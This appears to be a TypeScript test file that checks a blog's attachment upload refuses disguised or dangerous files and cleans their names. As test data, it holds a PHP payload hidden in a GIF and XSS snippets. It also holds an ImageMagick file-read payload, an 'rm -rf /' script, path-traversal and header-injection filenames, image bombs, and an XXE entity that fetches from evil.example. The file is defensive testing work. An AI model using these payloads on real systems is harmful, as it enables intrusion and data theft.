// tests/attachments/refuse.test.ts: files that are not taken, and what becomes of the names of those that are.
import fs from 'node:fs';
import http from 'node:http';
import { beforeEach, expect, test } from 'vitest';
import { saveSettings } from '../../src/base/settings/settings.ts';
import { attachmentSettings } from '../../src/attachments/settings.ts';
import { storeBytes } from '../../src/media/store.ts';
import { startBlog } from '../blog.ts';
import { docx, filesIn, gif, jpeg, mp4, ole, pdf, png, sendAhead, zip } from './files.ts';
import { processorTime } from '../processor-time.ts';

const site = await startBlog();
await saveSettings(site.blog.db, attachmentSettings, {
  allowed_file_types: [...attachmentSettings.parse({}).allowed_file_types, 'txt', 'csv', 'zip', 'tar'],
  // Each file here is one of a day: how many of them are taken is tested by itself.
  max_files_per_day: 0,
});
let form = 0;

beforeEach(() => {
  form += 1;
});

const send = (name: string, body: Buffer | string) =>
  sendAhead(site, name, Buffer.from(body), `form-of-refuse-test-${form}`);

const svg = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>';
/** As writers of linearized files do: the metadata stand in front. */
const pdfWithXmp = Buffer.from(
  `%PDF-1.7\n2 0 obj <</Type/Metadata/Subtype/XML/Length 250>> stream
<?xpacket begin="\u00ef\u00bb\u00bf" id="W5M0MpCehiHzreSzNTczkc9d"?>
<?xml version="1.0" encoding="UTF-8"?>
<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"/></x:xmpmeta>
<?xpacket end="w"?>\nendstream endobj\ntrailer <<>>\n%%EOF\n`,
  'latin1',
);
const macro = { '[Content_Types].xml': '<Types/>', 'word/document.xml': '<w/>', 'word/vbaProject.bin': 'x' };

test.each<[string, string, Buffer | string]>([
  ['a program by its name (B1)', 'a.php', '<?php echo 1;'],
  ['a program dressed as a GIF (B1)', 'a.php', Buffer.concat([gif, Buffer.from('<?php')])],
  ['an encoded zero (B2)', 'a.php%00', png],
  ['SVG (B4)', 'a.svg', svg],
  ['SVG called PNG (B4)', 'a.png', svg],
  ['HTML', 'a.html', '<!doctype html><script>alert(1)</script>'],
  ['HTML called TXT', 'a.txt', 'Hello\n<script>alert(1)</script>'],
  ['HTML deep in a text', 'a.csv', `${'a,b\n'.repeat(20_000)}<iframe src=x>`],
  ['HTML called JPEG (B5)', 'a.jpg', '<html><body>'],
  ['a script dressed as a GIF (B5)', 'a.gif', 'GIF89a/*\x01\x01\x01\x01\x01*/=1;alert(1);//'],
  ['MVG called JPEG (B6)', 'a.jpg', 'push graphic-context\nviewbox 0 0 640 480\n'],
  ['PostScript called JPEG (B6)', 'a.jpg', '%!PS-Adobe-3.0 EPSF-3.0\n'],
  ['MSL called PNG (B6)', 'a.png', '<?xml version="1.0"?><image><read filename="/etc/passwd"/></image>'],
  ['a playlist called AVI (B23)', 'a.avi', '#EXTM3U\n#EXTINF:1,\nfile:///etc/passwd\n'],
  ['a playlist', 'a.m3u8', '#EXTM3U\n'],
  [
    'a web page that calls itself PDF in a remark',
    'a.pdf',
    '<!-- %PDF-1.4 --><html><script>alert(1)</script>',
  ],
  ['a PDF whose front is a web page', 'a.pdf', '%PDF-1.4\n<html><script>alert(1)</script>\n%%EOF\n'],
  [
    'a web page in the metadata of a PDF',
    'a.pdf',
    '%PDF-1.4\n<?xpacket begin="" id="W5M0"?><x:xmpmeta xmlns:x="adobe:ns:meta/"><script>alert(1)</script></x:xmpmeta>',
  ],
  ['metadata before a PDF', 'a.pdf', '<?xml version="1.0"?><x:xmpmeta></x:xmpmeta>%PDF-1.4\n'],
  ['a PDF that begins too late', 'a.pdf', `${' '.repeat(1024)}%PDF-1.4\n`],
  ['a Windows program called PDF', 'a.pdf', Buffer.concat([Buffer.from('MZ\x90\0'), Buffer.alloc(500)])],
  ['an ELF program called ZIP', 'a.zip', Buffer.from('\x7fELF\x02\x01\x01', 'latin1')],
  ['a shell script called TXT', 'a.txt', '#!/bin/sh\nrm -rf /\n'],
  ['zeros called TXT', 'a.txt', Buffer.alloc(3000)],
  ['Office with macros by its name', 'a.docm', zip(macro)],
  ['Office with macros by its content', 'a.docx', zip(macro)],
  ['an Excel file called Word', 'a.docx', zip({ '[Content_Types].xml': '<T/>', 'xl/workbook.xml': '<w/>' })],
  ['a zip called Word', 'a.docx', zip({ 'hello.txt': 'hello' })],
  ['a zip called OpenDocument', 'a.odt', zip({ 'hello.txt': 'hello' })],
  ['a PDF called PNG', 'a.png', pdf],
  ['a PNG that is cut in its head', 'a.png', png.subarray(0, 20)],
  ['an unknown type', 'a.xyz', 'hello'],
  ['no type', 'README', 'hello'],
  ['nothing', 'a.png', ''],
  ['Java', 'a.class', Buffer.from('cafebabe0000', 'hex')],
])('%s is refused with 415, and nothing stays', async (_what, name, body) => {
  const before = filesIn(site);

  const answer = await send(name, body);

  expect(answer.status).toBe(415);
  expect(answer.body.error).toContain(name);
  expect(filesIn(site)).toEqual(before);
});

test.each<[string, Buffer | string, string]>([
  ['a.pdf', Buffer.from('MZ\x90\0'), 'is a program. Programs are not allowed here.'],
  ['a.jpg', '<html><body>', 'holds a web page or a script, which is not allowed here.'],
  ['a.png', pdf, 'is not what its name says: a .png file looks different inside.'],
])('%s is refused with the reason that fits it', async (name, body, reason) => {
  const answer = await send(name, body);

  expect([answer.status, answer.body.error]).toEqual([415, `“${name}” ${reason}`]);
});

test.each(['a.png', 'a.txt', 'a.pdf', 'a.zip'])('%s of no bytes is refused as empty', async (name) => {
  const answer = await send(name, '');

  expect([answer.status, answer.body.error]).toEqual([415, `“${name}” is empty. Choose another file.`]);
});

test.each<[string, Buffer | string]>([
  ['a.txt', 'Grüße aus München\r\n'],
  ['a.txt', Buffer.from('\ufeffWide text', 'utf16le')],
  ['a.csv', 'a;b\n1 < 2;3\n'],
  ['a.docx', docx],
  ['a.xls', ole],
  ['a.odt', zip({ mimetype: 'application/vnd.oasis.opendocument.text' })],
  ['a.zip', zip({ '../../etc/passwd': 'x', 'a.html': '<script>' })],
  ['a.pdf', pdf],
  ['with-metadata.pdf', pdfWithXmp],
  ['a.MP4', mp4()],
])('an honest %s is taken', async (name, body) => {
  const answer = await send(name, body);

  expect(answer.body).toMatchObject({ name });
});

/** A PNG whose header claims a size; the pixels are not there. */
function claims(width: number, height: number): Buffer {
  const bytes = Buffer.from(png);
  bytes.writeUInt32BE(width, 16);
  bytes.writeUInt32BE(height, 20);
  return bytes;
}

test.each([
  ['16000 × 16000', claims(16_000, 16_000)],
  ['30000 × 30000', claims(30_000, 30_000)],
])('a PNG of %s is refused at once (B12)', async (_size, body) => {
  const { spent, result } = await processorTime(() => send('bomb.png', body));

  expect(result.status).toBe(415);
  expect(spent).toBeLessThan(3000);
});

test('a small GIF that claims a wall of pixels is refused (B12)', async () => {
  const bytes = Buffer.from(gif);
  const frame = bytes.indexOf(Buffer.from([0x2c, 0, 0, 0, 0]));
  for (const place of [6, 8, frame + 5, frame + 7]) bytes.writeUInt16LE(60_000, place);

  expect((await send('bomb.gif', bytes)).status).toBe(415);
});

test('a GIF whose one small dot lies on a wall of a screen is refused (B12)', async () => {
  const bytes = Buffer.from(gif);
  for (const place of [6, 8]) bytes.writeUInt16LE(65_535, place);

  expect((await send('screen.gif', bytes)).status).toBe(415);
});

test.each([
  ['two extensions (B3)', 'a.php.jpg', 'a.php.jpg'],
  ['a tab (B2)', 'a.php\t.jpg', 'a.php.jpg'],
  ['line breaks (B14)', 'a\r\nX-Bad: 1.jpg', 'aX-Bad: 1.jpg'],
  ['encoded line breaks (B14)', 'a%0d%0aX-Bad: 1.jpg', 'aX-Bad: 1.jpg'],
  ['folders (B9)', '../../../etc/cron.d/x.jpg', 'x.jpg'],
  ['Windows folders (B9)', 'C:\\temp\\x.jpg', 'x.jpg'],
  ['writing direction', 'a\u202egpj.jpg', 'agpj.jpg'],
  ['an umlaut (B15)', 'žluťoučký.jpg', 'žluťoučký.jpg'],
  ['markup (B10)', '"><img src=x onerror=1>.jpg', '"><img src=x onerror=1>.jpg'],
  ['300 letters (B10)', `${'ä'.repeat(300)}.jpg`, `${'ä'.repeat(196)}.jpg`],
])('a name with %s is only a text; the file on disk has ours (B22)', async (_what, given, shown) => {
  const answer = await raw(given, jpeg);

  const row = await site.blog.db('waiting_files').where({ id: answer.body.id }).first();
  expect(answer.body).toMatchObject({ name: shown });
  expect(row.file).toMatch(/^[a-z2-9]{26}$/);
  expect(fs.existsSync(`${site.blog.storage.staging}/${row.file}`)).toBe(true);
});

test('two files of one name are two files (B21)', async () => {
  const one = await sendAhead(site, 'x.png', png, 'the-first-form-of-b21');
  const two = await sendAhead(site, 'x.png', png, 'the-other-form-of-b21');

  const rows = await site.blog.db('waiting_files').whereIn('id', [one.body.id, two.body.id]).orderBy('id');
  expect(new Set(rows.map(({ file }) => file)).size).toBe(2);
});

test.each([
  ['a long index', 'a[99999999]', 1],
  ['deep nesting', `a${'[b]'.repeat(50)}`, 1],
  ['too many fields', 'a', 400],
  ['a long name', 'n'.repeat(500), 1],
  ['an empty name', '', 1],
])('%s in a field is refused (B16)', async (_what, name, times) => {
  const fields = Array.from({ length: times }, () => part(`name="${name}"`, '1'));

  const answer = await multipart(Buffer.concat([...fields, Buffer.from('--b--\r\n')]));

  expect([400, 413]).toContain(answer.status);
});

test('a prototype in the fields changes nothing (B16)', async () => {
  const body = Buffer.concat([part('name="__proto__"', 'x'), Buffer.from('--b--\r\n')]);

  const answer = await multipart(body);

  expect(answer.status).toBe(400);
  expect(({} as Record<string, unknown>).x).toBeUndefined();
});

test.each([
  ['no boundary', 'multipart/form-data', 'x'],
  [
    'an end that never comes',
    'multipart/form-data; boundary=b',
    '--b\r\nContent-Disposition: form-data; name="a"\r\n\r\nx',
  ],
  ['headers that are none', 'multipart/form-data; boundary=b', '--b\r\nnonsense\r\n\r\nx\r\n--b--\r\n'],
])('a form with %s is refused and the blog goes on (B13)', async (_what, type, body) => {
  const answer = await site.request.post('/attachments').set('Content-Type', type).send(Buffer.from(body));

  expect(answer.status).toBe(400);
  expect((await send('a.png', png)).status).toBe(201);
});

function raw(name: string, body: Buffer) {
  const disposition = `name="attachment"; filename="${name.replaceAll('"', '%22').replaceAll('\r', '%0D').replaceAll('\n', '%0A')}"`;
  return multipart(Buffer.concat([part(disposition, body), Buffer.from('--b--\r\n')]));
}

function part(disposition: string, body: string | Buffer): Buffer {
  const head = `--b\r\nContent-Disposition: form-data; ${disposition}\r\n\r\n`;
  return Buffer.concat([Buffer.from(head), Buffer.from(body), Buffer.from('\r\n')]);
}

/** Sent by hand: clients clean names themselves. */
function multipart(body: Buffer): Promise<{ status: number; body: { id: string; name: string } }> {
  return new Promise((resolve, reject) => {
    const headers = { 'Content-Type': 'multipart/form-data; boundary=b', 'Content-Length': body.length };
    const request = http.request(`${site.address}/attachments`, { method: 'POST', headers }, (answer) => {
      let text = '';
      answer.on('data', (piece) => (text += String(piece)));
      answer.on('end', () => resolve({ status: answer.statusCode!, body: JSON.parse(text) }));
    });
    request.on('error', reject);
    request.end(body);
  });
}

test('sound that names a foreign document fetches nothing (B8)', async () => {
  const xml = '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % x SYSTEM "http://evil.example/x.dtd">%x;]>';
  const wav = Buffer.concat([Buffer.from('RIFF\xff\0\0\0WAVEiXML\x7b\0\0\0', 'latin1'), Buffer.from(xml)]);

  const answer = await send('a.wav', wav);
  await site.work();

  expect(answer.status).toBe(201);
  expect(site.fetched).toEqual([]);
});

test('an archive is never unpacked (B11)', async () => {
  const before = filesIn(site).length;

  const answer = await send('a.zip', zip({ '../../../escaped.txt': 'x', 'link -> /etc/passwd': '' }));
  await site.work();

  expect(answer.status).toBe(201);
  expect(filesIn(site).length).toBe(before + 1);
});

test.each([
  ['SVG', Buffer.from(svg)],
  ['HTML', Buffer.from('<!doctype html><script>alert(1)</script>')],
  ['nothing known', Buffer.from('javascript:alert(1)')],
])('a fetched “picture” that is %s is not kept (A12)', async (_what, body) => {
  const before = filesIn(site);

  const keeping = storeBytes(site.blog, { name: 'photo.png', body, source: 'embed' });

  await expect(keeping).rejects.toMatchObject({ status: 415 });
  expect(filesIn(site)).toEqual(before);
});

test('a fetched picture with a wrong name gets the right one (A12)', async () => {
  const media = await storeBytes(site.blog, { name: 'photo.php', body: jpeg, source: 'embed' });

  expect(media).toMatchObject({ name: 'photo.jpg', mime_type: 'image/jpeg' });
});
